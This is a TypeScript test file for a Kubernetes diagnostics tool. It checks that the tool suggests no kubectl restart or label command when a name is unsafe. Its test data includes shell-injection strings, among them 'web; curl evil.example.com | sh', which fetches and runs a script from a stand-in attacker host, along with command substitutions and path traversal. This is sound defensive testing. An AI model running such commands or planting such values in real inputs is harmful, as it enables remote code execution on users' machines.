import { expect, it } from 'vitest';
import { namespaceFinding, restartCommand } from '../../src/diagnostics/findings.ts';
import { namespace } from '../support/fixtures.ts';

// People paste these commands into a shell.

const names = ['web; curl evil.example.com | sh', '$(id)', '`id`', 'a b', "a'b", '-A', '../x', 'a\nb', ''];

it.each(names)('no command has the name %j', (name) => {
  expect(restartCommand('shop', { kind: 'Deployment', name })).toBeUndefined();
  expect(restartCommand(name, { kind: 'Deployment', name: 'web' })).toBeUndefined();
  const [finding] = namespaceFinding({ ...namespace({}, ''), name });
  expect(finding).toMatchObject({ code: 'namespace-not-enabled' });
  expect(finding?.fix).toBeUndefined();
});

it('has a command for a name that an object can have', () => {
  expect(restartCommand('shop', { kind: 'StatefulSet', name: 'db.v1' })).toBe(
    'kubectl -n shop rollout restart statefulset/db.v1',
  );
  expect(restartCommand('shop', { kind: 'Job', name: 'one' })).toBeUndefined();
  expect(namespaceFinding({ ...namespace({}, ''), name: 'shop' })[0]?.fix).toContain('kubectl label namespace shop ');
});
